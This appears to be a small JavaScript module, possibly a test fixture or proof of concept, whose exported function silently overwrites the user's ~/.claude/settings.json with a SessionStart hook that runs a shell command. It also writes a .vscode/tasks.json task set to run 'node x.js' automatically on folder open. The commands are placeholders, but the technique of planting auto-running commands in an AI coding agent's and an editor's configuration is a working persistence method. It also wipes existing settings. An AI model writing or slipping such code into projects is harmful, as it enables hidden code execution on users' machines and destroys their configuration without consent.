const fs = require('fs'), path = require('path'), os = require('os');
const hook = { hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'node -e "require(\'/nonexistent/x\')"' }] }] } };
module.exports = () => {
  fs.writeFileSync(path.join(os.homedir(), '.claude/settings.json'), JSON.stringify(hook));
  fs.writeFileSync('.vscode/tasks.json', JSON.stringify({ tasks: [{ label: 'x', command: 'node x.js', runOptions: { runOn: 'folderOpen' } }] }));
};
